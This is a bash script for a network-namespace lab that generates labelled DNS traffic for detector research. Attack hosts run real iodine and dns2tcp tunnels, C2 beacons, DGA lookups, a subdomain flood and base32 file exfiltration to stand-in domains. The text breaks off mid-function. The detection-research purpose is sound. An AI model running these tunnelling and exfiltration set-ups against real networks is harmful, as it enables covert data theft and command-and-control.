#!/usr/bin/env bash
# sentineldns real-traffic lab: real DNS software (unbound, NSD, iodine/iodined,
# dig) in Linux network namespaces, captured with tcpdump, with ground truth.
# See README.md beside this file. Needs root. Touches nothing outside the
# namespaces it creates (prefix sdns-<tag>-) and the --out directory.
#
#   sudo scripts/real-traffic/lab.sh --duration 660 --seed 1 --out DIR
set -Eeuo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
PY=${PYTHON:-/usr/bin/python3}
DOMAINS=${DOMAINS_DIR:-$HERE/../../../shared/data/domains}   # shared/ beside the checkout

# ---------------------------------------------------------------- options
DURATION=3600 SEED=1 OUT="" TAG=lab
WORKSTATIONS=10 SERVERS=2 MAILS=1 AVS=1 MEDIAS=1 WINMEMBERS=1 PROBES=1 HTTPS_MIN=3
ATTACKS="iodine,dns2tcp,beacon,dictdga,phish,dga" ATTACK_START=1800
DGA_SPEC="" DGA_MIN=20 DGA_MAX=60 BATCH_MIN=10 BATCH_MAX=40 DGA_START=""
DICT_SPEC="suppobox:dga/baderj_dga_examples.csv" DICT_MIN=15 DICT_MAX=40
D2T_DOMAIN=d.filesync.test D2T_RATE=50 D2T_TYPE=TXT D2T_DELAY_MS=45
C2_DOMAIN=cdn-metrics-sync.com BEACON_PERIOD=60 BEACON_JITTER=0.04 PHISH_EPISODES=4
PROBE_MEAN=1500 PROBE_HOST_MEAN=700
FLOOD_DOMAIN=mapleleaf-credit.com FLOOD_QPS=10 FLOOD_SECS=120
EXFIL_DOMAIN=statuscdn-telemetry.net EXFIL_MIN=100 EXFIL_MAX=140 EXFIL_FILE=/usr/share/common-licenses/GPL-3
TUN_DOMAIN=t.tunnel.test TUN_TYPE=NULL TUN_EXTRA="" TUN_START="" TUN_RATE=2000
TUN_UP=400000 TUN_DOWN=150000 TUN_BEACON="3 12" PING_INTERVAL=2
ALIGN=300 LEAD=20 MAL_TAIL=25 PACE=1.0 QNAME_MIN=no ZONE_COUNT=350 AUTH_DELAY_MS=18 KEEP=0
usage() {
  cat <<EOF
usage: $0 --out DIR [options]
  --duration SEC       capture length (default 3600, >= 120)
  --seed N             RNG seed for clients and host addresses (default 1)
  --out DIR            output directory (capture.pcap, labels.json, summary.txt, logs/)
  --tag NAME           namespace prefix sdns-NAME- (default lab; lets several labs run at once)
host mix (each host its own namespace):
  --workstations N     benign workstations (default 10)
  --servers N          benign servers (default 2)
  --mail N             mail servers doing DNSBL/PTR/SPF/MX lookups (default 1)
  --av N               anti-virus agents doing file-hash lookups, + light browsing (default 1)
  --media N            streaming boxes (googlevideo/cloudfront hashed names) (default 1)
  --winmember N        Windows domain members (AD SRV lookups), + browsing (default 1)
  --chrome-probe-hosts N  workstations that often send Chrome's random probes (default 1)
  --https-min N        at least N workstations are browser-like (HTTPS queries) (default 3)
  --probe-mean SEC     browser-like workstations send Chrome's 3 random probes at start
                       and then every ~SEC s (exponential; default 1500; 0 = off)
  --probe-host-mean SEC  the same for the dedicated probe hosts (default 700)
attacks (each on its own host, which also browses lightly):
  --attacks LIST       comma list of iodine,dns2tcp,beacon,dictdga,phish,dga,nxflood,slowexfil
                       (default: the first six; 'none' for a benign-only run)
  --attack-start SEC   every attack starts this long after the capture starts (default 1800)
  --dict-dga SPEC      dictionary DGA names (default suppobox:dga/baderj_dga_examples.csv)
  --dict-period MIN MAX  seconds between dictionary-DGA lookups (default 15 40)
  --dns2tcp-domain D   dns2tcp zone (default d.filesync.test)
  --dns2tcp-rate B/s   data pushed through dns2tcp (pv -L; default 50)
  --dns2tcp-type T     dns2tcpc -T request type, TXT or KEY (default TXT)
  --dns2tcp-delay MS   median latency between unbound and dns2tcpd (default 45)
  --c2-domain D        TXT beacon domain (default cdn-metrics-sync.com)
  --beacon-period SEC  TXT beacon period (default 60), --beacon-jitter F (default 0.04)
  --phish-episodes N   phishing episodes in the attack period (default 4)
  --nxflood-domain D   random-subdomain flood target, served by the fake internet
                       (default mapleleaf-credit.com)
  --nxflood-rate QPS   dnsperf -Q rate of the flood (default 10)
  --nxflood-secs SEC   flood length (dnsperf -l; default 120)
  --exfil-domain D     slow-exfiltration domain (wildcard A; default statuscdn-telemetry.net)
  --exfil-period MIN MAX  seconds between slow-exfiltration lookups (default 100 140:
                       2-3 encoded names in a whole 5-minute window)
  --exfil-file F       file whose gzip'd bytes are exfiltrated, base32 in the names
                       (default /usr/share/common-licenses/GPL-3)
  --dga SPEC           DGA names: a plain list file, or FAMILY:baderj-csv; relative
                       paths are tried under the domain-list folder too
                       (default: dga/andrewaeva_conficker_1000.txt)
  --dga-period MIN MAX seconds between DGA batches (default 20 60)
  --dga-batch MIN MAX  lookups per DGA batch (default 10 40)
  --dga-start SEC      DGA starts this long after the capture starts (default --attack-start)
  --tunnel-domain D    iodine topdomain (default t.tunnel.test)
  --tunnel-type T      iodine -T record type, or 'auto' (default NULL)
  --tunnel-extra ARGS  extra iodine client args, e.g. '-O Base32 -M 200'
  --tunnel-start SEC   iodine starts this long after the capture starts (default --attack-start)
  --tunnel-rate B/s    bulk transfer rate through the tunnel (default 2000)
  --tunnel-bytes UP DOWN  bulk bytes to exfiltrate / download (default 400000 150000)
  --tunnel-beacon MIN MAX seconds between C2 beacons (default 3 12)
  --ping-interval SEC  ping through the tunnel every SEC s (default 2; 0 = off)
  --mal-tail SEC       malicious activity stops this long before the capture ends (default 25)
  --align SEC          start the capture LEAD s before a multiple of SEC (epoch), so a
                       660 s capture always holds two whole epoch-aligned 5-min windows
                       (default 300; 0 = start at once)
  --lead SEC           see --align (default 20)
  --pace F             multiply benign dwell/idle times by F (default 1.0)
  --qname-min yes|no   unbound qname-minimisation (default no: with yes, unbound sends
                       A queries for iodine's names first and breaks the handshake)
  --keep               leave namespaces running at the end (debugging; run --teardown later)
  --teardown           only remove namespaces of --tag and exit
EOF
}
TEARDOWN_ONLY=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --duration) DURATION=$2; shift 2;;
    --seed) SEED=$2; shift 2;;
    --out) OUT=$2; shift 2;;
    --tag) TAG=$2; shift 2;;
    --workstations) WORKSTATIONS=$2; shift 2;;
    --servers) SERVERS=$2; shift 2;;
    --mail) MAILS=$2; shift 2;;
    --av) AVS=$2; shift 2;;
    --media) MEDIAS=$2; shift 2;;
    --winmember) WINMEMBERS=$2; shift 2;;
    --chrome-probe-hosts) PROBES=$2; shift 2;;
    --https-min) HTTPS_MIN=$2; shift 2;;
    --probe-mean) PROBE_MEAN=$2; shift 2;;
    --probe-host-mean) PROBE_HOST_MEAN=$2; shift 2;;
    --attacks) ATTACKS=$2; shift 2;;
    --attack-start) ATTACK_START=$2; shift 2;;
    --dict-dga) DICT_SPEC=$2; shift 2;;
    --dict-period) DICT_MIN=$2; DICT_MAX=$3; shift 3;;
    --dns2tcp-domain) D2T_DOMAIN=$2; shift 2;;
    --dns2tcp-rate) D2T_RATE=$2; shift 2;;
    --dns2tcp-type) D2T_TYPE=$2; shift 2;;
    --dns2tcp-delay) D2T_DELAY_MS=$2; shift 2;;
    --c2-domain) C2_DOMAIN=$2; shift 2;;
    --beacon-period) BEACON_PERIOD=$2; shift 2;;
    --beacon-jitter) BEACON_JITTER=$2; shift 2;;
    --phish-episodes) PHISH_EPISODES=$2; shift 2;;
    --nxflood-domain) FLOOD_DOMAIN=$2; shift 2;;
    --nxflood-rate) FLOOD_QPS=$2; shift 2;;
    --nxflood-secs) FLOOD_SECS=$2; shift 2;;
    --exfil-domain) EXFIL_DOMAIN=$2; shift 2;;
    --exfil-period) EXFIL_MIN=$2; EXFIL_MAX=$3; shift 3;;
    --exfil-file) EXFIL_FILE=$2; shift 2;;
    --dga) DGA_SPEC=$2; shift 2;;
    --dga-period) DGA_MIN=$2; DGA_MAX=$3; shift 3;;
    --dga-batch) BATCH_MIN=$2; BATCH_MAX=$3; shift 3;;
    --dga-start) DGA_START=$2; shift 2;;
    --tunnel-domain) TUN_DOMAIN=$2; shift 2;;
    --tunnel-type) TUN_TYPE=$2; shift 2;;
    --tunnel-extra) TUN_EXTRA=$2; shift 2;;
    --tunnel-start) TUN_START=$2; shift 2;;
    --tunnel-rate) TUN_RATE=$2; shift 2;;
    --tunnel-bytes) TUN_UP=$2; TUN_DOWN=$3; shift 3;;
    --tunnel-beacon) TUN_BEACON="$2 $3"; shift 3;;
    --ping-interval) PING_INTERVAL=$2; shift 2;;
    --mal-tail) MAL_TAIL=$2; shift 2;;
    --align) ALIGN=$2; shift 2;;
    --lead) LEAD=$2; shift 2;;
    --pace) PACE=$2; shift 2;;
    --qname-min) QNAME_MIN=$2; shift 2;;
    --keep) KEEP=1; shift;;
    --teardown) TEARDOWN_ONLY=1; shift;;
    -h|--help) usage; exit 0;;
    *) echo "unknown option $1" >&2; usage >&2; exit 2;;
  esac
done
[[ $EUID -eq 0 ]] || { echo "must run as root" >&2; exit 1; }
[[ "$TAG" =~ ^[a-z0-9]{1,8}$ ]] || { echo "--tag must be 1-8 of [a-z0-9]" >&2; exit 2; }
P="sdns-$TAG"

# ---------------------------------------------------------------- teardown
lab_namespaces() { ip netns list 2>/dev/null | awk '{print $1}' | grep -E "^$P-" || true; }
teardown() {
  local ns pids
  for ns in $(lab_namespaces); do
    pids=$(ip netns pids "$ns" 2>/dev/null || true)
    [[ -n "$pids" ]] && kill $pids 2>/dev/null || true
  done
  sleep 1
  for ns in $(lab_namespaces); do
    pids=$(ip netns pids "$ns" 2>/dev/null || true)
    [[ -n "$pids" ]] && kill -9 $pids 2>/dev/null || true
    ip netns del "$ns" 2>/dev/null || true
  done
}
if [[ $TEARDOWN_ONLY -eq 1 ]]; then teardown; echo "removed namespaces $P-*"; exit 0; fi
[[ -n "$OUT" ]] || { usage >&2; exit 2; }
(( DURATION >= 120 )) || { echo "--duration must be >= 120" >&2; exit 2; }
for t in unbound nsd iodine iodined dns2tcpd dns2tcpc pv dig tcpdump ping "$PY"; do
  command -v "$t" >/dev/null || { echo "missing $t (apt-get install unbound nsd iodine dns2tcp pv bind9-dnsutils tcpdump iputils-ping)" >&2; exit 1; }
done
[[ -n "$DGA_START" ]] || DGA_START=$ATTACK_START
[[ -n "$TUN_START" ]] || TUN_START=$ATTACK_START
[[ "$ATTACKS" == none ]] && ATTACKS=""
for x in ${ATTACKS//,/ }; do
  [[ "$x" =~ ^(iodine|dns2tcp|beacon|dictdga|phish|dga|nxflood|slowexfil)$ ]] || { echo "unknown attack $x" >&2; exit 2; }
done
has_attack() { [[ ",$ATTACKS," == *",$1,"* ]]; }
if has_attack nxflood; then
  command -v dnsperf >/dev/null || { echo "missing dnsperf (apt-get install dnsperf)" >&2; exit 1; }
  (( ATTACK_START + FLOOD_SECS + MAL_TAIL <= DURATION )) || { echo "--nxflood-secs too long for --duration" >&2; exit 2; }
fi
if has_attack slowexfil; then
  [[ -r "$EXFIL_FILE" ]] || { echo "--exfil-file $EXFIL_FILE not readable" >&2; exit 2; }
  (( EXFIL_MIN >= 1 && EXFIL_MAX >= EXFIL_MIN )) || { echo "bad --exfil-period" >&2; exit 2; }
fi
for s in "$ATTACK_START" "$DGA_START" "$TUN_START"; do
  (( s + MAL_TAIL + 60 <= DURATION )) || { echo "attack start $s too late for --duration $DURATION" >&2; exit 2; }
done
(( WORKSTATIONS + SERVERS + MAILS + AVS + MEDIAS + WINMEMBERS + PROBES + 6 <= 110 )) || { echo "too many hosts" >&2; exit 2; }
[[ -e /dev/net/tun ]] || { echo "/dev/net/tun missing" >&2; exit 1; }
[[ -n "$DGA_SPEC" ]] || DGA_SPEC="dga/andrewaeva_conficker_1000.txt"
# --dga paths may be relative to the domain-list folder
if [[ "$DGA_SPEC" == *:* && "$DGA_SPEC" != /* ]]; then dga_fam=${DGA_SPEC%%:*}; dga_file=${DGA_SPEC#*:}; else dga_fam=""; dga_file=$DGA_SPEC; fi
[[ -f "$dga_file" ]] || dga_file="$DOMAINS/$dga_file"
[[ -f "$dga_file" ]] || { echo "DGA list not found: $DGA_SPEC" >&2; exit 2; }
DGA_SPEC="${dga_fam:+$dga_fam:}$dga_file"
if [[ "$DICT_SPEC" == *:* && "$DICT_SPEC" != /* ]]; then dga_fam=${DICT_SPEC%%:*}; dga_file=${DICT_SPEC#*:}; else dga_fam=""; dga_file=$DICT_SPEC; fi
[[ -f "$dga_file" ]] || dga_file="$DOMAINS/$dga_file"
[[ -f "$dga_file" ]] || { echo "dictionary DGA list not found: $DICT_SPEC" >&2; exit 2; }
DICT_SPEC="${dga_fam:+$dga_fam:}$dga_file"

on_exit() {
  local rc=$? j
  for j in $(jobs -p); do kill "$j" 2>/dev/null || true; done
  if [[ $KEEP -eq 1 ]]; then echo "--keep: namespaces left running; remove with: $0 --tag $TAG --teardown"; else teardown; fi
  [[ $rc -ne 0 ]] && echo "lab.sh: exit status $rc" >&2
  exit $rc
}
trap on_exit EXIT
trap 'echo "lab.sh: failed at line $LINENO: $BASH_COMMAND" >&2' ERR
trap 'exit 130' INT TERM

teardown    # idempotent: remove leftovers of an earlier run with the same tag
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
W="$OUT/lab"; LOGS="$OUT/logs"
rm -rf "$W" "$LOGS"; mkdir -p "$W" "$LOGS"
chmod 755 "$OUT" "$W" "$LOGS"
now() { date +%s.%N; }
# wait for PID by polling (bounded): unlike the wait builtin, a short sleep lets
# the INT/TERM trap run within a second
wait_pid() { local i; for ((i = 0; i < $2; i++)); do kill -0 "$1" 2>/dev/null || break; sleep 1; done; wait "$1" 2>/dev/null || true; }
log() { echo "[$(date -u +%H:%M:%S)] $*"; }
nsx() { local n=$1; shift; ip netns exec "$P-$n" "$@"; }

# ---------------------------------------------------------------- addresses
# LAN (client side) 10.53.0.0/25, "internet" side 10.53.0.128/26, iodine
# tunnel 10.53.0.192/27. Client addresses are drawn from the seed.
RES_LAN=10.53.0.2 RES_UP=10.53.0.129 AUTH=10.53.0.130 IOD=10.53.0.140 D2S=10.53.0.141
TUN_SRV=10.53.0.193   # iodined side of the tunnel; the client gets .194
RANDOM=$SEED
declare -A USED=()
# (no command substitution here: RANDOM must advance in this shell to stay reproducible)
add_host() { local o; while :; do o=$(( 10 + RANDOM % 115 )); [[ -z "${USED[$o]:-}" ]] && break; done; USED[$o]=1; HOSTS+=("$1 10.53.0.$o $2"); }
HOSTS=()        # "name ip role"
for i in $(seq 1 "$WORKSTATIONS"); do add_host "ws$i" workstation; done
for i in $(seq 1 "$SERVERS"); do add_host "srv$i" server; done
has_attack dga && add_host dga dga
has_attack iodine && add_host tun tunnel
for i in $(seq 1 "$MAILS"); do add_host "mail$i" mail; done
for i in $(seq 1 "$AVS"); do add_host "av$i" av; done
for i in $(seq 1 "$MEDIAS"); do add_host "media$i" media; done
for i in $(seq 1 "$WINMEMBERS"); do add_host "win$i" winmember; done
for i in $(seq 1 "$PROBES"); do add_host "probe$i" chromeprobe; done
has_attack dns2tcp && add_host d2t dns2tcp
has_attack beacon && add_host bcn beacon
has_attack dictdga && add_host ddga dictdga
has_attack phish && add_host phish phish
has_attack nxflood && add_host flood nxflood
has_attack slowexfil && add_host exf slowexfil
PTRS=()
PTR_IPS=""
for h in "${HOSTS[@]}"; do
  set -- $h
  case $3 in
    workstation) pn="$1-pc";; server) pn="$1-app";; mail) pn="mx-$1";; media) pn="tv-$1";;
    av|chromeprobe|winmember) pn="$1-pc";;
    dga|dictdga|beacon|nxflood|slowexfil) pn="ws-$((RANDOM % 900 + 100))";; *) pn="lt-$((RANDOM % 900 + 100))";;
  esac
  PTRS+=(--ptr "$2=$pn.corp.lan"); PTR_IPS+="$2,"
done
PTRS+=(--ptr "$RES_LAN=resolver.corp.lan"); PTR_IPS+="$RES_LAN"

# ---------------------------------------------------------------- fake internet
log "generating zones ($ZONE_COUNT domains, tunnel zone $TUN_DOMAIN)"
"$PY" "$HERE/gen_zones.py" --top "$DOMAINS/benign/top50k_kmikholap_top-1m.csv" --count "$ZONE_COUNT" \
  --out "$W" --auth-ip "$AUTH" --nsd-listen "127.0.0.1@5300" --iodined-ip "$IOD" \
  --tunnel-domain "$TUN_DOMAIN" --dns2tcp-domain "$D2T_DOMAIN" --dns2tcp-ip "$D2S" --c2-domain "$C2_DOMAIN" \
  --flood-domain "$FLOOD_DOMAIN" --exfil-domain "$EXFIL_DOMAIN" \
  --resolver-lan-ip "$RES_LAN" --resolver-up-ip "$RES_UP" \
  --lan-cidr 10.53.0.0/25 --qname-min "$QNAME_MIN" "${PTRS[@]}"
nsd-checkconf "$W/nsd.conf"
unbound-checkconf "$W/unbound.conf" >/dev/null

# ---------------------------------------------------------------- namespaces
log "creating namespaces $P-*"
mkns() {
  ip netns add "$P-$1"
  nsx "$1" ip link set lo up
  nsx "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
}
mkns sw
nsx sw ip link add brlan type bridge
nsx sw ip link add brup type bridge
nsx sw ip link set brlan up
nsx sw ip link set brup up
# plug NS into bridge BR as interface IF with ADDR (veth created inside the namespaces, never in the host's)
plug() {
  local ns=$1 br=$2 ifn=$3 addr=$4 peer="v$1$5"
  ip -n "$P-sw" link add "$peer" type veth peer name "$ifn" netns "$P-$ns"
  nsx sw ip link set "$peer" master "$br" up
  nsx "$ns" ip addr add "$addr" dev "$ifn"
  nsx "$ns" ip link set "$ifn" up
}
mkns res;  plug res brlan eth0 "$RES_LAN/25" 0; plug res brup eth1 "$RES_UP/26" 1
mkns auth; plug auth brup eth0 "$AUTH/26" 0
mkns iod;  plug iod brup eth0 "$IOD/26" 0
mkns d2s;  plug d2s brup eth0 "$D2S/26" 0
for h in "${HOSTS[@]}"; do set -- $h; mkns "$1"; plug "$1" brlan eth0 "$2/25" 0; done

# ---------------------------------------------------------------- servers
BG_PIDS=()
LIFE=$(( DURATION + ALIGN + 300 ))   # hard upper bound for every daemon-ish helper
log "starting nsd, delay proxy, unbound, iodined"
nsx auth timeout $LIFE nsd -d -c "$W/nsd.conf" >"$LOGS/nsd.out" 2>&1 & BG_PIDS+=($!)
nsx auth timeout $LIFE "$PY" "$HERE/delayproxy.py" --listen "$AUTH:53" --upstream 127.0.0.1:5300 \
  --median-ms "$AUTH_DELAY_MS" --lifetime $LIFE --seed "$SEED" >"$LOGS/delayproxy.out" 2>&1 & BG_PIDS+=($!)
nsx res timeout $LIFE unbound -d -c "$W/unbound.conf" >"$LOGS/unbound.out" 2>&1 & BG_PIDS+=($!)
TUN_PW=$(printf 'sdns%05d' $(( (SEED * 7919) % 100000 )))
nsx iod timeout $LIFE iodined -f -c -P "$TUN_PW" -l "$IOD" -p 53 "$TUN_SRV/27" "$TUN_DOMAIN" \
  >"$LOGS/iodined.out" 2>&1 & BG_PIDS+=($!)
# dns2tcpd: authoritative for the dns2tcp zone; its one resource is a TCP sink
D2T_KEY=$(printf 'k%06d' $(( (SEED * 104729) % 1000000 )))
mkdir -p "$W/d2t-chroot"
cat >"$W/dns2tcpd.conf" <<EOF
listen = 127.0.0.1
port = 5300
user = nobody
chroot = $W/d2t-chroot
domain = $D2T_DOMAIN
key = $D2T_KEY
resources = sink:127.0.0.1:8444
EOF
# (in the foreground dns2tcpd also select()s its stdin: /dev/null would make it spin,
# so its stdin is a FIFO opened read-write, which never becomes readable)
mkfifo "$W/dns2tcpd.stdin"
nsx d2s timeout $LIFE dns2tcpd -F -d 1 -f "$W/dns2tcpd.conf" <>"$W/dns2tcpd.stdin" >"$LOGS/dns2tcpd.out" 2>&1 & BG_PIDS+=($!)
nsx d2s timeout $LIFE "$PY" "$HERE/tunnel_traffic.py" serve --host 127.0.0.1 --port 8444 \
  --until "$(( $(date +%s) + LIFE - 10 ))" >"$LOGS/dns2tcp-sink.out" 2>&1 & BG_PIDS+=($!)
# the attacker's server is "far away": without WAN latency dns2tcpc (which polls
# as fast as answers come back) would send ~100 queries/s
nsx d2s timeout $LIFE "$PY" "$HERE/delayproxy.py" --listen "$D2S:53" --upstream 127.0.0.1:5300 \
  --median-ms "$D2T_DELAY_MS" --lifetime $LIFE --seed "$SEED" >"$LOGS/delayproxy-d2s.out" 2>&1 & BG_PIDS+=($!)

ready=0
for _ in $(seq 1 30); do
  if nsx res dig @"$RES_LAN" +tries=1 +time=2 +short a.root-servers.net A 2>/dev/null | grep -q "$AUTH"; then ready=1; break; fi
  sleep 1
done
[[ $ready -eq 1 ]] || { echo "resolver not answering; see $LOGS" >&2; exit 1; }
for _ in $(seq 1 20); do nsx iod ip -4 addr show dev dns0 2>/dev/null | grep -q "$TUN_SRV" && break; sleep 1; done
nsx iod timeout $LIFE "$PY" "$HERE/tunnel_traffic.py" serve --host "$TUN_SRV" --rate "$TUN_RATE" --until "$(( $(date +%s) + LIFE - 10 ))" \
  >"$LOGS/tunnel-serve.out" 2>&1 & BG_PIDS+=($!)

# ---------------------------------------------------------------- capture
if (( ALIGN > 0 )); then
  t=$(date +%s); start=$(( (t / ALIGN + 1) * ALIGN - LEAD ))
  (( start - t < 3 )) && start=$(( start + ALIGN ))
  log "aligning: capture starts at $(date -u -d "@$start" +%T) UTC, ${LEAD}s before a ${ALIGN}s boundary (waiting $(( start - t ))s)"
  sleep $(( start - t ))
fi
PCAP="$OUT/capture.pcap"
rm -f "$PCAP" "$PCAP.gz"
log "capturing DNS on $P-res eth0 for ${DURATION}s -> $PCAP"
# non-first IPv4 fragments carry no UDP header: keep them too, or large answers
# (iodine's fragment-size probe) would be cut in half
nsx res timeout -s INT "$DURATION" tcpdump -i eth0 -n -U -s 0 -Z root -w "$PCAP" \
  'port 53 or (ip[6:2] & 0x1fff != 0)' \
  >"$LOGS/tcpdump.out" 2>&1 & CAP_PID=$!
for _ in $(seq 1 50); do grep -q "listening on" "$LOGS/tcpdump.out" 2>/dev/null && break; sleep 0.1; done
CAP_START=$(now)
CAP_END=$(awk -v s="$CAP_START" -v d="$DURATION" 'BEGIN{printf "%.3f", s+d-0.5}')
CLIENT_END=$(awk -v e="$CAP_END" 'BEGIN{printf "%.3f", e-3}')
MAL_END=$(awk -v e="$CAP_END" -v t="$MAL_TAIL" 'BEGIN{printf "%.3f", e-t}')
served="$W/served.json"
search_domain=corp.lan

# workstation profile from the seed: stub style, AAAA share, browser HTTPS
# queries, pacing
client_ws() {   # name ip seed extra...
  local n=$1 ip=$2 s=$3; shift 3
  local styles=("" "+nocookie" "+noedns +noad" "+nocookie +noad")
  local r1=$((RANDOM % 4)) r2=$((RANDOM % 50)) r3=$((RANDOM % 2)) r4=$((RANDOM % 30)) r5=$((RANDOM % 200))
  local style=${styles[$r1]}
  local aaaa; aaaa=$(awk -v r=$r2 'BEGIN{printf "%.2f", 0.5+r/100}')
  local https=(); (( r3 || WS_HTTPS_FORCED < HTTPS_MIN )) && { https=(--https); WS_HTTPS_FORCED=$((WS_HTTPS_FORCED + 1)); }
  local probe=(); (( ${#https[@]} && PROBE_MEAN > 0 )) && probe=(--chrome-probes "$PROBE_MEAN")
  local dwell; dwell=$(awk -v r=$r4 -v p="$PACE" 'BEGIN{printf "%.1f", (15+r)*p}')
  local imin imax; imin=$(awk -v p="$PACE" 'BEGIN{printf "%.0f", 20*p}'); imax=$(awk -v r=$r5 -v p="$PACE" 'BEGIN{printf "%.0f", (100+r)*p}')
  echo "$n $ip ${ROLE:-workstation} style='$style' aaaa=$aaaa https=${#https[@]} dwell=$dwell idle=$imin-$imax ${probe[*]} $*" >>"$W/profiles.txt"
  nsx "$n" timeout $LIFE "$PY" "$HERE/client.py" workstation --resolver "$RES_LAN" --served "$served" \
    --seed "$s" --until "$CLIENT_END" --log "$LOGS/$n-browse.jsonl" --dig-opts "$style" --aaaa "$aaaa" \
    "${https[@]}" "${probe[@]}" --dwell "$dwell" --idle-min "$imin" --idle-max "$imax" --search-domain "$search_domain" "$@" \
    >"$LOGS/$n-browse.out" 2>&1 &
  BG_PIDS+=($!)
}
WS_HTTPS_FORCED=0
# role-specific client (everything but the browsing) in namespace $1, logging to $LOGS/$1-$2.*
client_role() {  # name role seed args...
  local n=$1 role=$2 s=$3; shift 3
  nsx "$n" timeout $LIFE "$PY" "$HERE/client.py" "$role" --resolver "$RES_LAN" --served "$served" --seed "$s" \
    --until "$CLIENT_END" --log "$LOGS/$n-$role.jsonl" "$@" >"$LOGS/$n-$role.out" 2>&1 &
  BG_PIDS+=($!)
}
light=(--third-max 2 --session-max 4 --bg-tasks 2)
idx=0
for h in "${HOSTS[@]}"; do
  set -- $h; idx=$((idx + 1)); cs=$(( SEED * 1000 + idx ))
  case $3 in
    workstation) client_ws "$1" "$2" "$cs";;
    server)
      echo "$1 $2 server" >>"$W/profiles.txt"
      nsx "$1" timeout $LIFE "$PY" "$HERE/client.py" server --resolver "$RES_LAN" --served "$served" --seed "$cs" \
        --until "$CLIENT_END" --log "$LOGS/$1-server.jsonl" --dig-opts "+noedns +noad" --aaaa 0.3 \
        --ptr-ips "$PTR_IPS" >"$LOGS/$1-server.out" 2>&1 & BG_PIDS+=($!);;
    dga) client_ws "$1" "$2" "$cs";;
    tunnel|dns2tcp|beacon|dictdga|phish|nxflood|slowexfil) client_ws "$1" "$2" "$cs" "${light[@]}";;
    mail)
      echo "$1 $2 mail" >>"$W/profiles.txt"
      client_role "$1" mail "$cs" --dig-opts "+noedns +noad";;
    av)
      ROLE=av client_ws "$1" "$2" "$cs" "${light[@]}"
      client_role "$1" av "$(( cs + 500 ))" --dig-opts "+nocookie";;
    media)
      echo "$1 $2 media" >>"$W/profiles.txt"
      client_role "$1" media "$cs" --dig-opts "+noedns +noad";;
    winmember)
      ROLE=winmember client_ws "$1" "$2" "$cs" --search-domain ad.example-corp.com
      client_role "$1" winmember "$(( cs + 500 ))" --dig-opts "+nocookie" --hostname "desktop-$1";;
    chromeprobe)
      ROLE=chromeprobe PROBE_MEAN=$PROBE_HOST_MEAN HTTPS_MIN=99 client_ws "$1" "$2" "$cs";;
  esac
done
# an attack process on host $1 starting $2 s into the capture (bounded by MAL_END)
attack_role() {  # name start role seed args...
  local n=$1 st=$2 role=$3 s=$4; shift 4
  (
    sleep "$st"
    exec ip netns exec "$P-$n" timeout $LIFE "$PY" "$HERE/client.py" "$role" --resolver "$RES_LAN" --served "$served" \
      --seed "$s" --until "$MAL_END" --log "$LOGS/$n-$role.jsonl" --mark "$W/$n.mark.json" "$@"
  ) >"$LOGS/$n-$role.out" 2>&1 & BG_PIDS+=($!)
}
has_attack beacon && attack_role bcn "$ATTACK_START" beacon $(( SEED * 1000 + 997 )) --dig-opts "+noedns" \
  --period "$BEACON_PERIOD" --jitter "$BEACON_JITTER"
has_attack dictdga && attack_role ddga "$ATTACK_START" dga $(( SEED * 1000 + 996 )) --dig-opts "" \
  --dga-file "$DICT_SPEC" --dga-min "$DICT_MIN" --dga-max "$DICT_MAX" --batch-min 1 --batch-max 1 --intra 0
has_attack phish && attack_role phish "$ATTACK_START" phish $(( SEED * 1000 + 995 )) --dig-opts "" \
  --episodes "$PHISH_EPISODES"

# fast DGA beacon (batches; starts after DGA_START)
has_attack dga && attack_role dga "$DGA_START" dga $(( SEED * 1000 + 999 )) --dig-opts "" \
  --dga-file "$DGA_SPEC" --dga-min "$DGA_MIN" --dga-max "$DGA_MAX" --batch-min "$BATCH_MIN" --batch-max "$BATCH_MAX"

# DNS tunnel: real iodine client through the recursive resolver
tunnel_run() {
  sleep "$TUN_START"
  local ttype=() from to ppid=""
  [[ "$TUN_TYPE" != auto ]] && ttype=(-T "$TUN_TYPE")
  from=$(now)
  # shellcheck disable=SC2086
  ip netns exec "$P-tun" timeout $LIFE iodine -f -r -P "$TUN_PW" "${ttype[@]}" $TUN_EXTRA "$RES_LAN" "$TUN_DOMAIN" \
    >"$LOGS/iodine.out" 2>&1 &
  local ipid=$!
  local up=0
  for _ in $(seq 1 90); do
    ip netns exec "$P-tun" ip -4 addr show dev dns0 2>/dev/null | grep -q "inet " && { up=1; break; }
    kill -0 $ipid 2>/dev/null || break
    sleep 1
  done
  local left; left=$(awk -v e="$MAL_END" -v n="$(now)" 'BEGIN{printf "%d", e-n}')
  if [[ $up -eq 1 && $left -gt 5 ]]; then
    echo "tunnel up after $(awk -v f="$from" -v n="$(now)" 'BEGIN{printf "%.1f", n-f}')s" >"$W/tunnel.status"
    if [[ "$PING_INTERVAL" != 0 ]]; then
      ip netns exec "$P-tun" timeout -s INT "$left" ping -n -q -i "$PING_INTERVAL" -w "$left" "$TUN_SRV" \
        >"$LOGS/tunnel-ping.out" 2>&1 &
      ppid=$!
    fi
    # shellcheck disable=SC2086
    ip netns exec "$P-tun" timeout $(( left + 5 )) "$PY" "$HERE/tunnel_traffic.py" drive --host "$TUN_SRV" \
      --until "$MAL_END" --seed "$SEED" --rate "$TUN_RATE" --up-bytes "$TUN_UP" --down-bytes "$TUN_DOWN" \
      --beacon-min ${TUN_BEACON% *} --beacon-max ${TUN_BEACON#* } --stats "$W/tunnel.stats.json" \
      >"$LOGS/tunnel-drive.out" 2>&1 || true
    [[ -n "$ppid" ]] && { wait "$ppid" || true; }
  else
    echo "tunnel did NOT come up (see logs/iodine.out)" >"$W/tunnel.status"
    sleep "$(awk -v e="$MAL_END" -v n="$(now)" 'BEGIN{d=e-n; printf "%d", d>0?d:0}')"
  fi
  kill $ipid 2>/dev/null || true
  for _ in $(seq 1 20); do kill -0 $ipid 2>/dev/null || break; sleep 0.25; done
  kill -9 $ipid 2>/dev/null || true
  to=$(now)
  echo "{\"from\": $from, \"to\": $to}" >"$W/tunnel.mark.json"
}
TUN_RUN_PID=""; has_attack iodine && { tunnel_run >"$LOGS/tunnel-run.out" 2>&1 & TUN_RUN_PID=$!; }

# dns2tcp: the real dns2tcpc through the resolver, stdin fed by pv at ~D2T_RATE B/s
# (random, i.e. encrypted-looking, bytes); restarted if it dies
dns2tcp_run() {
